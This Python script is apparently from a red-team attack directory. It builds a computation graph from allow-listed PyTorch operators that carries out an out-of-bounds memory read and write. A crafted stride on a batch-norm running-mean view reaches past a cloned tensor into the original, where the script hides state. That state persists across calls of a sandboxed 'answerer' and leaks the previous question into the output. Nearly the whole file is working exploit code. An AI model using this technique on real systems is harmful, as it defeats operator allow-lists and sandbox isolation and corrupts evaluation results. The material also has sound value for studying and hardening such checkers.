"""Keeps state between calls of ONE ModelProgram using only operators _check accepts.

aten.native_batch_norm (on the allow-list) indexes running_mean through its own strides, without
checking them against the storage: a size-1 view of the clone's LAST element (aten.slice)
makes channel f address `last + 4*f`, i.e. a window past the end of the clone of the held tensor H,
which is where the ORIGINAL of H lies (36 MiB tensors are mmapped; in the answerer the per-call clone
lands directly BELOW the original, so FORWARD from the clone's last element the window runs into it).
 - eval mode (training=False) READS the window: out = -running_mean[f] (input 0, var 1, eps 0)
 - training mode with momentum 1 WRITES it: running_mean[f] = mean of input channel f
A marker in H's tail locates the state slot inside the window (computed indices go to gather/scatter,
which take tensors). Answer: one-hot logits of the PREVIOUS question (state carried across calls)."""
import sys, torch; sys.path.insert(0, "/tmp/rt4/attacks")
from pg4 import G, F32, I64
import os
L = int(os.environ.get("L", 24 << 20))  # 96 MiB: mmapped (answerer sets M_MMAP_THRESHOLD 32 MiB), larger than any glibc arena-alignment gap, so the per-call clone lands right below the original
S = 64 * 64                 # state: one question
C = 16384                   # window: 64 KiB below the clone
MARK = 3.0e30
BACK = (1 << 62) - 1        # stride: f * BACK * 4 == -4 f (mod 2**64)

def build():
    g = G()
    x = g.input()
    init = torch.zeros(L, dtype=torch.float32)
    init[0] = MARK
    init[1:S + 1] = -1.0                                    # "no previous question yet"
    c = g.tensor(init, "H")

    back = g.op("slice.Tensor", c, 0, L - 1, L)             # size [1], stride 1: channel f at &clone[L-1] + 4f
    zeros = g.op("zeros", [1, C, 1], dtype=F32)
    ones = g.op("ones", [C], dtype=F32)
    r = g.op("native_batch_norm", zeros, None, None, back, ones, False, 0.0, 0.0)
    W = g.op("neg", g.op("view", g.get(r, 0), [C]))        # W[f] = float at &clone[L-1] + 4f
    q = g.op("argmax", g.op("_to_copy", g.op("eq.Scalar", W, MARK), dtype=I64))  # index of the marker (tensor)
    idx = g.op("add.Tensor", g.op("add.Tensor", q, 1), g.op("arange", S))          # S_j at W[q+1+j]
    prev = g.op("gather", W, 0, idx)                        # previous question (floats)
    cur = g.op("_to_copy", g.op("view", x, [S]), dtype=F32)
    W2 = g.op("scatter.src", W, 0, idx, cur)                # window with this question in the slot
    found = g.op("eq.Scalar", g.op("gather", W, 0, g.op("view", q, [1])), MARK)
    W2 = g.op("where.self", found, W2, W)                   # no marker in the window: write back unchanged
    g.op("native_batch_norm", g.op("view", W2, [1, C, 1]), None, None, back, None, True, 1.0, 1e-5)  # write back
    prev = g.op("view", g.op("clamp", g.op("_to_copy", prev, dtype=I64), 0, 255), [64, 64])
    eye = g.op("mul.Tensor", g.op("_to_copy", g.op("eq.Tensor", g.op("unsqueeze", prev, 2), g.op("arange", 256)), dtype=F32), 20.0)
    g.output(eye)
    return g

if __name__ == "__main__":
    build().save(sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt4/attacks/persist_bn.bin")
